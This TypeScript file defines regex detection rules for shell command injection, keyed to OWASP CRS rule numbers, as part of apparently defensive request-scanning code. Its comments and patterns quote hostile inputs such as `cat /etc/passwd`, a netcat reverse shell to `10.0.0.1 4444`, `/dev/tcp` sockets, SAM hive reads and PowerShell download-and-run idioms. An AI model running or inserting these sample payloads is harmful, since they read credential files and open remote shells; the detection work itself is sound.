import { DATA_AND_MESSAGE_KINDS, familyRules } from './rule';

/**
 * Shell command injection, read on the command form of each value (decoded, lower-cased, with the quoting and
 * escaping shells drop removed: `c'a't /e"t"c/pa\sswd` reads as `cat /etc/passwd`; `${IFS}` as a space). The
 * command names re-express the kinds of entry in CRS's unix-shell.data and windows-powershell-commands.data.
 */
const UNIX_COMMANDS =
  'cat|tac|nl|head|tail|more|less|ls|dir|id|whoami|uname|pwd|hostname|ifconfig|ip|netstat|ss|ps|env|printenv|set|export|wget|curl|fetch|lwp-download|nc|ncat|netcat|socat|telnet|ssh|scp|ftp|tftp|bash|sh|zsh|ksh|csh|tcsh|dash|ash|busybox|python[23]?|perl|ruby|php|node|lua|nslookup|dig|host|ping|traceroute|sleep|echo|printf|rm|chmod|chown|chgrp|touch|mkdir|cp|mv|ln|grep|egrep|find|locate|awk|gawk|sed|base64|xxd|od|hexdump|strings|file|stat|lsof|who|w|last|history|crontab|useradd|usermod|passwd|sudo|su|tar|gzip|gunzip|zip|unzip|openssl|dd|wc|sort|uniq|rev|cut|tr|xargs|exec|eval|nohup|timeout|kill|killall|pkill|systemctl|service|mount|chroot|nmap|sh|getent|id|uptime|finger|mail|sendmail|vi|vim|nano|ed';
const WINDOWS_COMMANDS =
  'cmd|cmd\\.exe|powershell|powershell\\.exe|pwsh|certutil|bitsadmin|wmic|rundll32|regsvr32|mshta|cscript|wscript|net|net1|ipconfig|systeminfo|tasklist|taskkill|type|copy|del|ver|whoami|reg|sc|schtasks|nslookup|ping|findstr|icacls|attrib|msiexec|vssadmin|wevtutil|bcdedit';

export const cmdiRules = familyRules(
  'cmdi',
  [
    // A Unix command after a separator or inside a substitution: `;id`, `| cat /etc/passwd`, `&& whoami`,
    // `$(uname -a)`, `\n ls`, and the same after a full path `;/usr/bin/id` (CRS 932230, 932235, 932250, 932260, 932220).
    {
      crs: ['932220', '932230', '932235', '932250', '932260'],
      view: 'command',
      pattern: new RegExp(`(?:[;|&\`\\n\\r{]|\\$\\(|<\\()[ ]?(?:sudo )?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:${UNIX_COMMANDS})(?:[ ;|&\`)}<>/(\\n]|$)`),
    },
    // A value that is itself a command with arguments or a redirection: `cat /etc/passwd`, `ls -la`, `id;`,
    // `nc -e /bin/sh 10.0.0.1 4444`; alone only for commands no word shares (`whoami`, not `id` or `w`) (CRS 932235, 932236, 932340).
    {
      crs: ['932235', '932236', '932340'],
      view: 'command',
      pattern: new RegExp(`^ ?(?:(?:${UNIX_COMMANDS})(?: [-/$~]| ?[|;>&])|(?:whoami|uname|ifconfig|ipconfig|systeminfo|sysinfo|printenv|netstat|pwd) ?$|sleep \\d{1,4} ?$|(?:curl|wget|fetch|nc|ncat) (?:https?|ftp):/|which (?:gcc|cc|curl|wget|nc|ncat|netcat|perl|python[23]?|ruby|php|bash|sh|socat)\\b)`),
    },
    // Shell expressions: `$(…)`, `\`…\``, `${…}` (also JNDI lookups `${jndi:…}`), process substitution `<(…)` (CRS 932130, 932131, 944150).
    // The innermost one is enough: excluding the brackets from the body keeps each start's scan short on `$($($(…`.
    { crs: ['932130', '932131', '944150'], view: 'decoded', pattern: /\$\([^()]{1,200}\)|`[^`]{1,200}`|\$\{[^{}]{1,200}\}|<\([^()]{1,200}\)/ },
    // Shell paths and devices: `/bin/sh`, `/usr/bin/python`, `/dev/tcp/10.0.0.1/4444`, glob-obfuscated `/???/c?t` (CRS 932160, 932200).
    {
      crs: ['932160', '932200'],
      view: 'command',
      pattern: /\/(?:usr\/)?(?:local\/)?s?bin\/[a-z?*[\]]{1,16}|\/dev\/(?:tcp|udp)\/|\/[?*]{1,3}\/[a-z?*]{0,3}[?*][a-z?*]{0,6}/,
    },
    // Windows commands after a separator or at the start, and cmd/PowerShell invocations with switches (CRS 932110, 932115, 932370, 932380).
    {
      crs: ['932370', '932380', '932110', '932115'],
      view: 'command',
      pattern: new RegExp(
        `[;|&\`\\n][ ]?(?:${WINDOWS_COMMANDS}|netsh|sysinfo)(?:[ ;|&/]|$)|^ ?(?:${WINDOWS_COMMANDS}) ?[/-][a-z]|(?:^|[;|&\`\\n])[ ]?net (?:user|localgroup|group|share|use|view|accounts|start|stop)\\b` +
          '|\\b(?:cmd(?:\\.exe)?/[ck]|powershell(?:\\.exe)? -[a-z]|netsh (?:firewall|advfirewall|interface|wlan)|reg(?:\\.exe)? (?:add|delete|query|save|export) ?hk)',
      ),
    },
    // A Windows command on an environment-variable path, read before `\` is dropped: `& type %SYSTEMROOT%\repair\SAM` (CRS 932370, 932140).
    { crs: ['932370', '932140'], view: 'decoded', pattern: /(?:^|[;|&\n]) ?(?:type|dir|copy|del|more|echo|set|cd|start|call) ?(?:%[a-z_]{2,30}%|[a-z]:[\\/])/ },
    // PowerShell cmdlets and their download-and-run idioms (CRS 932120, 932125).
    {
      crs: ['932120', '932125'],
      view: 'command',
      pattern: /\b(?:invoke-(?:expression|webrequest|restmethod|command|item|wmimethod)|iex ?\(|new-object (?:system\.)?net\.webclient|downloadstring|downloadfile|start-process|get-content|set-content|out-file|get-childitem|remove-item|add-mppreference)\b/,
    },
    // Code-execution functions of PHP, Python, Perl, Ruby and Java handing a command to a shell, and PHP open tags:
    // `system('id')`, `<?php passthru(…)`, `os.system(…)`, `Runtime.getRuntime().exec(…)` (CRS 933150, 933160, 934100, 944100).
    {
      crs: ['933150', '933160', '934100', '944100'],
      view: 'decoded',
      pattern: /\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|phpinfo|phpversion|assert|create_function|call_user_func|os\.system|os\.popen|subprocess\.(?:call|run|popen|check_output)|child_process|runtime\.getruntime\(\)\.exec|processbuilder|kernel\.(?:system|exec|spawn)) ?\(|<\?php\b|<\?=/,
    },
    // Shellshock function definitions and fork bombs (CRS 932170, 932171, 932390).
    { crs: ['932170', '932171', '932390'], view: 'decoded', pattern: /\(\) ?\{|:\(\) ?\{ ?:/ },
    // Brace expansion running a command: `{cat,/etc/passwd}` (CRS 932280, 932281). The innermost braces are enough:
    // a body without `{` stops each start's scan at the next start (`{a,{a,{a,…` would otherwise cost 200 steps a brace).
    { crs: ['932280', '932281'], view: 'decoded', pattern: /\{[a-z0-9_./-]{1,16},[^{}\s]{1,200}\}/ },
    // Output redirected to or input read from a sensitive place, and reverse-shell idioms (CRS 932220, 932240).
    { crs: ['932220', '932240'], view: 'command', pattern: /[<>] ?\/(?:tmp|dev|var|etc|root|home)\/|\b(?:nc|ncat|netcat) (?:-[a-z]{1,4} ){0,4}-[a-z]{0,3}e\b|\bmkfifo\b|\bsh -i\b|0<&\d|>& ?\/dev\// },
  ],
  DATA_AND_MESSAGE_KINDS,
);
